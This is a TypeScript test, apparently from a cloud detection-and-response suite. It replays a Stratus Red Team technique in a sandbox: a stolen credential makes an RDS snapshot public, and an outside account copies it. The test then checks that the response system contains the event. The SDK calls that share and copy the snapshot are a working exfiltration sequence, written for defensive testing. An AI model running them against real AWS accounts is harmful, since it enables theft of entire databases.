import { CopyDBSnapshotCommand, ModifyDBSnapshotAttributeCommand, RDSClient } from '@aws-sdk/client-rds';
import { expect } from 'vitest';
import type { Attack } from '../../support/attack.ts';
import { holding } from '../../support/attacker.ts';
import { production } from '../../support/company.ts';
import { readEvent, withMembers } from '../../support/events.ts';

const id = 'reports-2026-11';

/** A whole database leaves without a connection to it. */
export const attack: Attack = {
  title: 'A snapshot of a database is shared with everybody and copied into the attacker’s account',
  known: 'Stratus Red Team aws.exfiltration.rds-share-snapshot',
  answer: 'The snapshot is private again; the account that tests with it keeps it',
  clouds: ['aws'],
  async play({ sandbox, works, fails, arrives }) {
    const thief = new RDSClient(holding(sandbox, 'ASIASAMLADMIN0000001'));
    const shared = { DBSnapshotIdentifier: id, AttributeName: 'restore', ValuesToAdd: ['all'] };
    await thief.send(new ModifyDBSnapshotAttributeCommand(shared));
    const outside = new RDSClient(holding(sandbox, 'AKIAMALLORY000000001'));
    const source = `arn:aws:rds:eu-west-1:${production}:snapshot:${id}`;
    await works('copies the database', () =>
      outside.send(
        new CopyDBSnapshotCommand({ SourceDBSnapshotIdentifier: source, TargetDBSnapshotIdentifier: 'loot' }),
      ),
    );
    const [run] = await arrives(
      withMembers(readEvent('cloudtrail/function-permission'), {
        source: 'aws.rds',
        'detail.eventSource': 'rds.amazonaws.com',
        'detail.eventName': 'ModifyDBSnapshotAttribute',
        'detail.requestParameters': { dBSnapshotIdentifier: id, attributeName: 'restore', valuesToAdd: ['all'] },
      }),
    );
    expect(run?.result?.outcome).toBe('contained');
    await fails('copies the database');
  },
};
